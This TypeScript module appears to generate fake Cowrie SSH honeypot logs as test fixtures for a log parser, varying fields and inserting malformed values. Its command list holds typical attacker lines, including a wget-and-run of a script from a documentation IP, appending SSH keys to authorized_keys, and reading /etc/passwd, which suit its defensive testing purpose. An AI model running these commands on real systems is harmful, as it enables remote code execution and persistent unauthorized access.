import { randomFrom } from "./random.ts";

/** What a generated line is made of; every number picks from a list and wraps around at its end. */
export interface LineChoice {
  kind: number;
  session: number;
  second: number;
  address: number;
  sensor: number;
  variant: number;
}

type Fields = Record<string, unknown>;
type Maker = (variant: number) => Fields;

const commands = [
  "uname -a",
  "cd /tmp; wget http://203.0.113.80/x.sh; sh x.sh",
  'mkdir -p ~/.ssh; echo "ssh-ed25519 AAAAexample key" >> ~/.ssh/authorized_keys',
  "cat /etc/passwd | tee -a /root/.ssh/authorized_keys; echo ssh-rsa AAAA",
  "UNAME -A",
  "",
  "printf 'caf\u00e9 \u{1f41a} \u0000'",
  `echo ${"x".repeat(3_000)}`,
  "chmod 777 x.sh; ./x.sh",
  "crontab -l",
];
const addresses = [
  "192.0.2.7",
  "198.51.100.20",
  "2001:db8::7",
  "2001:DB8:0:0::7",
  "::ffff:192.0.2.7",
  "nowhere",
  "",
  null,
];
const sensors = ["harbour", "orchard", "", null];
const shasums = ["a", "b", "c"].map((letter) => letter.repeat(64));
const durations: Fields[] = [
  { duration: 12.5 },
  { duration: "12.5" },
  { duration: 13 },
  { duration: "0.0004" },
  { duration: 1.2e1 },
  { duration_ms: 12_345 },
  { duration_ms: 7, duration: 99.9 },
  { duration: "-3" },
  { duration: "soon" },
  { duration: null },
  {},
];

function command(eventid: string): Maker {
  return (variant) => ({ eventid, input: at(commands, variant), message: `CMD: ${at(commands, variant)}` });
}

function file(eventid: string): Maker {
  return (variant) => ({
    eventid,
    shasum: variant % 7 === 6 ? "no digest" : at(shasums, variant),
    url: variant % 3 === 0 ? undefined : `http://203.0.113.80/${variant}.sh`,
    filename: variant % 4 === 0 ? "" : variant % 4 === 1 ? undefined : `f${variant}`,
    destfile: `/tmp/${variant}`,
    duplicate: variant % 2 === 0,
  });
}

const makers: Maker[] = [
  (variant) => ({
    eventid: "cowrie.session.connect",
    src_port: 40_000 + variant,
    dst_port: 22,
    protocol: at(["ssh", "telnet", ""], variant),
  }),
  (variant) => ({ eventid: "cowrie.client.version", version: `SSH-2.0-client_${variant % 4}` }),
  (variant) => ({ eventid: "cowrie.client.kex", hassh: String(variant % 4).repeat(32) }),
  (variant) => ({ eventid: "cowrie.client.fingerprint", hassh: `f${variant % 2}`, username: "root" }),
  (variant) => ({ eventid: "cowrie.login.failed", username: "root", password: `word${variant}` }),
  (variant) => ({
    eventid: "cowrie.login.success",
    username: at(["root", "admin", "a\u0000b"], variant),
    password: "x",
  }),
  command("cowrie.command.input"),
  command("cowrie.command.success"),
  command("cowrie.command.failed"),
  command("cowrie.command.input"),
  file("cowrie.session.file_download"),
  file("cowrie.session.file_upload"),
  (variant) => ({ eventid: "cowrie.session.closed", ...at(durations, variant) }),
  (variant) => ({ eventid: "cowrie.log.closed", ...at(durations, variant), shasum: at(shasums, variant) }),
  (variant) => ({ eventid: `cowrie.future.kind${variant % 2}`, version: "SSH-2.0-not-a-version-event" }),
  (variant) => ({
    eventid: at(["COW0001", "COW0005", "KIPP0003", "COW0011"], variant),
    input: "ls",
    duration: "2.5",
    password: "x",
  }),
  (variant) => ({ eventid: "cowrie.direct-tcpip.request", dst_ip: "203.0.113.9", dst_port: variant }),
];
const sessionFields: Fields[] = [
  { session: "0a1b2c3d4e5f" },
  { session: "000000123456" },
  { session: "1e10" },
  { session_id: "0a1b2c3d4e5f" },
  { message: "New connection: 192.0.2.7:4000 (192.0.2.1:22) [session: deadbeef]" },
  { session: "deadbeef" },
  {},
];

/** One line of a log, without its end. Equal choices give equal lines; some kinds are no events at all. */
export function generatedLine(choice: LineChoice): string {
  const maker = choice.kind % (makers.length + 1);
  if (maker === makers.length)
    return at(["", "not json", '{"eventid":"cowrie.login.failed"}', '{"cut":"'], choice.variant);
  const micros = String((choice.variant * 37) % 1_000_000).padStart(6, "0");
  const timestamp = new Date(Date.UTC(2026, 0, 5, 23, 59, 50) + (choice.second % 40) * 1_000)
    .toISOString()
    .replace(/\.\d+Z$/, choice.variant % 3 === 0 ? "Z" : `.${micros}Z`);
  const fields = {
    ...makers[maker]?.(choice.variant),
    ...(choice.session < sessionFields.length
      ? sessionFields[choice.session]
      : { session: choice.session.toString(16).padStart(12, "0") }),
    src_ip: at(addresses, choice.address) ?? undefined,
    sensor: at(sensors, choice.sensor) ?? undefined,
    timestamp,
  };
  return JSON.stringify(fields);
}

/** Lines of a made-up log: the same ones for the same seed. */
export function generatedLines(count: number, seed: number, sessions = 40): string[] {
  const next = randomFrom(seed);
  return Array.from({ length: count }, () =>
    generatedLine({
      kind: next(makers.length * 50) % (next(20) === 0 ? makers.length + 1 : makers.length),
      session: next(sessions),
      second: next(40),
      address: next(3) === 0 ? next(addresses.length) : 0,
      sensor: next(3) === 0 ? next(sensors.length) : 0,
      variant: next(60),
    }),
  );
}

/** The contents of a log file. */
export function logOf(lines: readonly string[]): Buffer {
  return Buffer.from(lines.map((line) => `${line}\n`).join(""));
}

function at<T>(values: readonly T[], index: number): T {
  return values[index % values.length] as T;
}
